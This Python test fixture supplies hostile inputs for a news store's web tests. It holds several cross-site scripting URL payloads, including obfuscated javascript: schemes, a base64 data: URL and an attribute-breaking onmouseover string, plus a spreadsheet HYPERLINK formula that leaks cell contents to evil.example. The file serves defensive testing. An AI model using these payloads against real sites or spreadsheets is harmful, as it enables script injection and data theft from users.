"""Input an attacker (or a careless feed) can put into a store, shared by the web tests (issue #16)."""

HOSTILE_URLS = [
    "javascript:alert(document.domain)//",
    " JaVaScRiPt:alert(document.domain)//",
    "java\tscript:alert(document.domain)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    'https://news.example/a" onmouseover="alert(document.domain)',
    "https://news.example/fine-report",
]
HOSTILE_TEXTS = [
    "Russian warplanes struck a market in Maarat Misrin on Monday, killing nine civilians, rescuers said.",
    "At least seven civilians were killed when Russian jets bombed a market in Maarat Misrin on Monday.",
    "Suspected jihadists attacked a Malian army post near Gao on Tuesday, killing four soldiers, officials said.",
    "Gunmen attacked a police station in Kidal on Wednesday, killing two officers, the regional governor said.",
    "Protesters clashed with police in Bamako on Thursday, and officers fired tear gas at the crowd, witnesses said.",
    "Militants ambushed a Nigerian army convoy near Maiduguri on Friday, killing six soldiers, the army said.",
]
FORMULA_SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
